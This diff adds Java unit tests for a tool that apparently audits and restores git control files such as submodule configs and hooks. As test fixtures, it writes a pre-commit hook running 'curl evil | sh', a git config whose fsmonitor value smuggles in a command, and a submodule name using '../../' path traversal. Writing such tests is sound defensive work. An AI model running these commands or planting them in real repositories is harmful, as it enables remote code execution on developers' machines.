@@ -309,4 +309,32 @@ class UnlistedDirectoryTest {
         assertThat(envrc).hasContent("export A=1\n");
         assertThat(yaml).doesNotExist();
     }
+
+    @Test
+    void beneathASearchableUnreadableGitModulesTheSubmodulesHooksAndConfigAreAuditedByName() throws IOException {
+        Files.writeString(ws.resolve(".gitmodules"), "[submodule \"lib/a\"]\n\tpath = vendor/a\n"
+                + "[submodule \"../../escape\"]\n\tpath = x\n");
+        Path sub = Files.createDirectories(ws.resolve(".git/modules/lib/a/hooks"));
+        Path config = Files.writeString(sub.resolveSibling("config"), "[core]\n\tbare = false\n");
+        Path modules = ws.resolve(".git/modules");
+        chmod(modules, 0111);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        Files.writeString(config, "[core]\n\tfsmonitor = touch pwned\n");
+        Path hook = Files.writeString(sub.resolve("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        chmod(modules, 0755);
+        assertThat(report.unaudited()).containsExactly(modules);
+        assertThat(report.changes()).extracting(Change::path).contains(config, hook);
+        assertThat(config).hasContent("[core]\n\tbare = false\n");
+        assertThat(hook).doesNotExist();
+    }
+
+    @Test
+    void submoduleNamesComeFromGitmodulesAndNeverLeadOutOfModules() {
+        assertThat(SubmoduleNames.names("[submodule \"a\"]\n path = a\n [submodule \"x\\\"y\"]\n#[submodule \"no\"]\n"))
+                .containsExactly("a", "x\"y");
+        Path git = ws.resolve(".git");
+        assertThat(SubmoduleNames.entriesBeneath(ws.resolve("src"))).isEmpty();
+        assertThat(SubmoduleNames.entriesBeneath(git.resolve("hooks"))).isEmpty();
+    }
 }
